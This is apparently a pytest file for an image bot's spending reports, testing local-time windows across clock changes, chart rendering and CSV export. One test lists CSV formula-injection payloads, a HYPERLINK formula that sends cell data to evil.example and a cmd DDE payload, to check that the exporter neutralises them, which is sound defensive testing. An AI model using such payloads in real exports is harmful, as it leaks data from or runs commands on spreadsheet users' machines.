"""bot/usecases/reports.py: report windows in local time, the report, its chart and its CSV, on a real ledger."""

import csv
import io
import json
import re
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from PIL import Image
from sqlite_utils import Database

from bot.errors import InvalidOption
from bot.usecases.reports import (
    CSV_COLUMNS,
    Report,
    build_report,
    render_chart,
    render_csv,
    report_window,
    usd_decimal,
)
from storage import spend as queries
from storage.db import open_db
from storage.records import ledger_time, utcnow
from storage.spend import Scope

BERLIN = ZoneInfo("Europe/Berlin")
NOW = datetime(2026, 11, 21, 19, 44, 39, 679000, tzinfo=UTC)  # Saturday; 20:44 in Berlin


@pytest.fixture
def db(tmp_path: Path) -> Iterator[Database]:
    opened = open_db(tmp_path / "imagebot.db")
    yield opened
    opened.close()


def add(db: Database, when: datetime | str, **fields: Any) -> None:
    row: dict[str, Any] = {
        "created_at": when if isinstance(when, str) else ledger_time(when), "team_id": "T1", "user_id": "U1",
        "channel_id": "C1", "thread_ts": "1.0", "kind": "generate", "provider": "openai", "model": "gpt-image-1",
        "size": "1024x1024", "quality": "medium", "n": 1, "prompt": "a cat", "cost_micro": 42_240, "status": "ok",
    }
    row.update(fields)
    if "image_ids" not in fields:
        row["image_ids"] = json.dumps(["f" * 64] * (row["n"] if row["status"] == "ok" else 0))
    # as Store.record_call writes it: the number of images an ok call delivered
    row["images"] = len(json.loads(row["image_ids"])) if row["status"] == "ok" else 0
    db["ledger"].insert(row)


def utc(*args: int) -> datetime:
    return datetime(*args, tzinfo=UTC)  # type: ignore[misc]


# ledger time ----------------------------------------------------------------------------------------------


def test_ledger_time_writes_the_ledgers_own_format() -> None:
    assert ledger_time(NOW) == "2026-11-21T19:44:39.679+00:00"
    assert ledger_time(datetime(2026, 7, 1, 0, 0, tzinfo=BERLIN)) == "2026-06-30T22:00:00.000+00:00"
    assert ledger_time(datetime(2026, 1, 1, 0, 0, tzinfo=BERLIN)) == "2025-12-31T23:00:00.000+00:00"
    pattern = r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}\+00:00"
    assert re.fullmatch(pattern, utcnow())
    assert re.fullmatch(pattern, ledger_time(datetime.now(BERLIN)))


def test_ledger_times_sort_as_the_instants_do_across_a_clock_change() -> None:
    # 02:30 CEST comes before 02:10 CET on 25 October 2026, though it reads later on the wall clock.
    first = datetime(2026, 10, 25, 2, 30, tzinfo=BERLIN)
    second = datetime(2026, 10, 25, 2, 10, fold=1, tzinfo=BERLIN)
    assert first.timestamp() < second.timestamp()  # (`<` on one tzinfo compares wall clocks, ignoring fold)
    assert ledger_time(first) < ledger_time(second)


def test_ledger_time_refuses_a_naive_datetime() -> None:
    with pytest.raises(ValueError, match="aware"):
        ledger_time(datetime(2026, 11, 21, 12, 0))


# windows --------------------------------------------------------------------------------------------------


def test_today_runs_from_local_midnight_to_now() -> None:
    start, end, label = report_window("today", NOW, BERLIN)

    assert start == datetime(2026, 11, 21, 0, 0, tzinfo=BERLIN)
    assert ledger_time(start) == "2026-11-20T23:00:00.000+00:00"
    assert end == NOW
    assert label == "today (Sat 21 Nov)"


@pytest.mark.parametrize(("spec", "first_day", "label"), [("7d", date(2026, 11, 15), "the last 7 days"),
                                                          ("30d", date(2026, 10, 23), "the last 30 days"),
                                                          (" 30D ", date(2026, 10, 23), "the last 30 days")])
def test_last_days_are_whole_local_days_ending_today(spec: str, first_day: date, label: str) -> None:
    start, end, got = report_window(spec, NOW, BERLIN)

    assert start == datetime.combine(first_day, datetime.min.time(), tzinfo=BERLIN)
    assert end == NOW
    assert got == label


def test_30d_across_the_clock_change_starts_at_local_midnight_in_summer_time() -> None:
    start, _, _ = report_window("30d", NOW, BERLIN)  # 23 October: still CEST (UTC+2)

    assert ledger_time(start) == "2026-10-22T22:00:00.000+00:00"


def test_month_is_this_calendar_month_to_now() -> None:
    start, end, label = report_window("month", NOW, BERLIN)

    assert (start, end, label) == (datetime(2026, 11, 1, tzinfo=BERLIN), NOW, "November 2026")
    assert ledger_time(start) == "2026-10-31T23:00:00.000+00:00"


def test_a_past_month_is_the_whole_month_in_local_time() -> None:
    start, end, label = report_window("2026-10", NOW, BERLIN)

    assert label == "October 2026"
    assert ledger_time(start) == "2026-09-30T22:00:00.000+00:00"  # CEST
    assert ledger_time(end) == "2026-10-31T23:00:00.000+00:00"  # CET
    december, january, _ = report_window("2025-12", NOW, BERLIN)
    assert (december.date(), january.date()) == (date(2025, 12, 1), date(2026, 1, 1))


def test_this_month_by_name_stops_at_now() -> None:
    assert report_window("2026-11", NOW, BERLIN) == report_window("month", NOW, BERLIN)


def test_the_month_is_the_local_one_at_the_turn_of_a_month() -> None:
    # 23:30 UTC on 31 October is already 1 November in Berlin.
    start, _, label = report_window("month", utc(2026, 10, 31, 23, 30), BERLIN)

    assert (start.date(), label) == (date(2026, 11, 1), "November 2026")


@pytest.mark.parametrize("spec", ["", "week", "7", "7days", "31d", "2026-13", "2026-00", "2026-1", "26-11",
                                  "0000-01", "2026-11-01", "2027-01"])
def test_anything_else_is_refused_with_the_valid_forms(spec: str) -> None:
    with pytest.raises(InvalidOption) as caught:
        report_window(spec, NOW, BERLIN)

    assert "today, 7d, 30d, month" in str(caught.value)
    assert "YYYY-MM" in str(caught.value)


# the report -----------------------------------------------------------------------------------------------


def test_report_puts_spend_into_local_days_across_the_autumn_clock_change(db: Database) -> None:
    # Sunday 25 October 2026 is 25 hours long in Berlin: 22:00 UTC on the 24th to 23:00 UTC on the 25th.
    add(db, "2026-09-30T21:59:59.999+00:00", cost_micro=1)  # 23:59:59 on 30 September: not October
    add(db, "2026-09-30T22:00:00.000+00:00", cost_micro=20)  # 1 October, 00:00
    add(db, "2026-10-24T21:59:59.999+00:00", cost_micro=300)  # 24 October, 23:59:59 CEST
    add(db, "2026-10-24T22:00:00.000+00:00", cost_micro=4_000)  # 25 October, 00:00 CEST
    add(db, "2026-10-25T00:30:00.000+00:00", cost_micro=50_000)  # 02:30 CEST, the first time round
    add(db, "2026-10-25T01:30:00.000+00:00", cost_micro=600_000)  # 02:30 CET, the second time round
    add(db, "2026-10-25T22:59:59.999+00:00", cost_micro=7_000_000)  # 25 October, 23:59:59 CET
    add(db, "2026-10-25T23:00:00.000+00:00", cost_micro=80_000_000)  # 26 October, 00:00 CET
    add(db, "2026-10-31T23:00:00.000+00:00", cost_micro=900_000_000)  # 1 November: not October

    report = build_report(db, "T1", "2026-10", NOW, BERLIN)
    days = dict(report.by_day)

    assert [d for d, _ in report.by_day] == [date(2026, 10, 1) + timedelta(days=i) for i in range(31)]
    assert days[date(2026, 10, 1)] == 20
    assert days[date(2026, 10, 24)] == 300
    assert days[date(2026, 10, 25)] == 4_000 + 50_000 + 600_000 + 7_000_000
    assert days[date(2026, 10, 26)] == 80_000_000
    assert sum(days.values()) == report.totals.spend_micro == 87_654_320


def test_report_puts_spend_into_local_days_across_the_spring_clock_change(db: Database) -> None:
    # Sunday 29 March 2026 is 23 hours long in Berlin: 23:00 UTC on the 28th to 22:00 UTC on the 29th.
    add(db, "2026-03-28T22:59:59.999+00:00", cost_micro=1)
    add(db, "2026-03-28T23:00:00.000+00:00", cost_micro=20)
    add(db, "2026-03-29T21:59:59.999+00:00", cost_micro=300)
    add(db, "2026-03-29T22:00:00.000+00:00", cost_micro=4_000)

    days = dict(build_report(db, "T1", "2026-03", NOW, BERLIN).by_day)

    assert (days[date(2026, 3, 28)], days[date(2026, 3, 29)], days[date(2026, 3, 30)]) == (1, 320, 4_000)


def test_report_days_in_a_half_hour_zone(db: Database) -> None:
    kolkata = ZoneInfo("Asia/Kolkata")  # UTC+05:30: local midnight is hh:30 UTC
    add(db, "2026-11-19T18:29:59.999+00:00", cost_micro=1)  # 19 November, 23:59:59
    add(db, "2026-11-19T18:30:00.000+00:00", cost_micro=20)  # 20 November, 00:00
    add(db, "2026-11-19T18:45:00.000+00:00", cost_micro=300)  # same UTC hour as the first, the next day

    days = dict(build_report(db, "T1", "7d", NOW, kolkata).by_day)

    assert (days[date(2026, 11, 19)], days[date(2026, 11, 20)]) == (1, 320)


def test_by_day_has_every_day_of_the_window_zeros_included(db: Database) -> None:
    add(db, utc(2026, 11, 18, 12), cost_micro=5)

    report = build_report(db, "T1", "7d", NOW, BERLIN)

    assert report.by_day == [(date(2026, 11, d), 5 if d == 18 else 0) for d in range(15, 22)]
    assert build_report(db, "T1", "today", NOW, BERLIN).by_day == [(date(2026, 11, 21), 0)]
    assert len(build_report(db, "T1", "month", NOW, BERLIN).by_day) == 21


def test_report_gathers_totals_and_breakdowns_for_the_scope(db: Database) -> None:
    add(db, utc(2026, 11, 2, 9), user_id="U1", channel_id="C1", model="gpt-image-1", quality="high",
        cost_micro=166_400)
    add(db, utc(2026, 11, 3, 9), user_id="U2", channel_id="C1", model="gpt-image-1-mini", quality="low",
        cost_micro=5_000, n=3)
    add(db, utc(2026, 11, 4, 9), user_id="U2", channel_id="C2", status="error", error_code="rate_limited",
        cost_micro=None)
    add(db, utc(2026, 10, 31, 22, 59), user_id="U1", cost_micro=1_000_000)  # 31 October in Berlin

    report = build_report(db, "T1", "month", NOW, BERLIN)

    assert isinstance(report, Report)
    assert (report.label, report.timezone) == ("November 2026", "Europe/Berlin")
    assert (report.totals.spend_micro, report.totals.requests, report.totals.failures, report.totals.images) == (
        171_400, 3, 1, 4)
    assert [(r.key, r.spend_micro) for r in report.top_users] == [("U1", 166_400), ("U2", 5_000)]
    assert [(r.key, r.requests) for r in report.top_channels] == [("C1", 2), ("C2", 1)]
    assert [r.key for r in report.by_model] == ["gpt-image-1", "gpt-image-1-mini"]
    assert [r.key for r in report.by_quality] == ["high", "low", "medium"]

    mine = build_report(db, "T1", "month", NOW, BERLIN, user_id="U2")
    assert (mine.user_id, mine.totals.spend_micro, mine.totals.requests) == ("U2", 5_000, 2)
    theirs = build_report(db, "T1", "month", NOW, BERLIN, channel_id="C2")
    assert (theirs.channel_id, theirs.totals.requests, [r.key for r in theirs.top_users]) == ("C2", 1, ["U2"])


def test_report_excludes_a_row_at_exactly_the_end_of_the_window(db: Database) -> None:
    add(db, "2026-10-31T22:59:59.999+00:00", cost_micro=1)  # last millisecond of October in Berlin
    add(db, "2026-10-31T23:00:00.000+00:00", cost_micro=20)  # first of November

    assert build_report(db, "T1", "2026-10", NOW, BERLIN).totals.spend_micro == 1


# the chart ------------------------------------------------------------------------------------------------


def chart_of(db: Database, spec: str = "30d", **kwargs: Any) -> bytes:
    return render_chart(build_report(db, "T1", spec, NOW, BERLIN, **kwargs))


@pytest.mark.parametrize("spec", ["today", "7d", "30d", "2026-10", "month"])
def test_chart_is_a_png_of_the_stated_size(db: Database, spec: str) -> None:
    for day in range(1, 21):
        add(db, utc(2026, 11, day, 12), cost_micro=day * 1_234_567)

    png = chart_of(db, spec)

    assert png.startswith(b"\x89PNG\r\n\x1a\n")
    with Image.open(io.BytesIO(png)) as image:
        assert (image.format, image.size) == ("PNG", (1000, 500))
        image.load()


def test_chart_is_deterministic_and_follows_the_data(db: Database) -> None:
    empty = chart_of(db)
    add(db, utc(2026, 11, 20, 12), cost_micro=2_500_000)
    once = chart_of(db)

    assert once == chart_of(db)
    assert once != empty
    add(db, utc(2026, 11, 10, 12), cost_micro=1_000)
    assert chart_of(db) != once


def test_chart_draws_bars_where_there_is_spend(db: Database) -> None:
    add(db, utc(2026, 11, 21, 12), cost_micro=100_000_000)

    with Image.open(io.BytesIO(chart_of(db, "7d"))) as image:
        pixels = image.convert("RGB")
        # The last of 7 bars (today) is tall, the first (no spend) is absent: sample the plot's middle height.
        middle = 250
        assert pixels.getpixel((880, middle)) != (255, 255, 255)
        assert pixels.getpixel((150, middle)) == (255, 255, 255)


def test_chart_of_a_tiny_spend_on_a_large_axis_still_draws(db: Database) -> None:
    add(db, utc(2026, 11, 20, 12), cost_micro=1)
    add(db, utc(2026, 11, 21, 12), cost_micro=9_999_999_999)

    assert chart_of(db, "7d").startswith(b"\x89PNG")


# the CSV --------------------------------------------------------------------------------------------------


def read_csv(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def test_csv_round_trips_and_sums_back_to_the_totals(db: Database) -> None:
    add(db, utc(2026, 11, 2, 9), cost_micro=42_240)
    add(db, utc(2026, 11, 3, 9), cost_micro=None, prompt='a "quoted", comma\nand a new line — ünïcode 🐱')
    add(db, utc(2026, 11, 4, 9), status="error", error_code="unreadable_output", cost_micro=166_400)
    add(db, utc(2026, 11, 5, 9), n=2, cost_micro=1_000_001)
    add(db, utc(2026, 10, 5, 9), cost_micro=7)  # outside
    scope = build_report(db, "T1", "month", NOW, BERLIN).scope

    data = render_csv(db, scope)
    rows = read_csv(data)
    header = next(csv.reader(io.StringIO(data.decode("utf-8"))))

    assert tuple(header) == CSV_COLUMNS
    assert [r["created_at"] for r in rows] == sorted(r["created_at"] for r in rows)
    assert len(rows) == 4
    totals = queries.totals(db, scope)
    assert sum(int(r["cost_micro"]) for r in rows if r["cost_micro"]) == totals.spend_micro == 1_208_641
    assert sum(int(r["images"]) for r in rows) == totals.images == 4
    assert [r["cost_usd"] for r in rows] == ["0.042240", "", "0.166400", "1.000001"]
    assert rows[1]["prompt"] == 'a "quoted", comma\nand a new line — ünïcode 🐱'


def test_csv_of_an_empty_window_is_the_header(db: Database) -> None:
    data = render_csv(db, Scope("T1", "2026-11-01T00:00:00.000+00:00", "2026-12-01T00:00:00.000+00:00"))

    assert data.decode("utf-8").splitlines() == [",".join(CSV_COLUMNS)]


@pytest.mark.parametrize("prompt", ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3",
                                    "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
def test_csv_neutralises_formula_injection(db: Database, prompt: str) -> None:
    add(db, utc(2026, 11, 2, 9), prompt=prompt, error_message=prompt, status="error", error_code="server_error")

    row = read_csv(render_csv(db, Scope("T1", "2026-11-01T00:00:00.000+00:00", "2026-12-01T00:00:00.000+00:00")))[0]

    assert row["prompt"] == "'" + prompt
    assert row["error_message"] == "'" + prompt


def test_csv_leaves_ordinary_text_alone(db: Database) -> None:
    add(db, utc(2026, 11, 2, 9), prompt="a cat = happy, +1 @home")

    row = read_csv(render_csv(db, Scope("T1", "2026-11-01T00:00:00.000+00:00", "2026-12-01T00:00:00.000+00:00")))[0]

    assert row["prompt"] == "a cat = happy, +1 @home"


@pytest.mark.parametrize(("micro", "text"), [(None, ""), (0, "0.000000"), (42_240, "0.042240"),
                                             (1_000_000, "1.000000"), (123_456_789_012, "123456.789012"),
                                             (-5, "-0.000005")])
def test_usd_decimal_is_exact(micro: int | None, text: str) -> None:
    assert usd_decimal(micro) == text
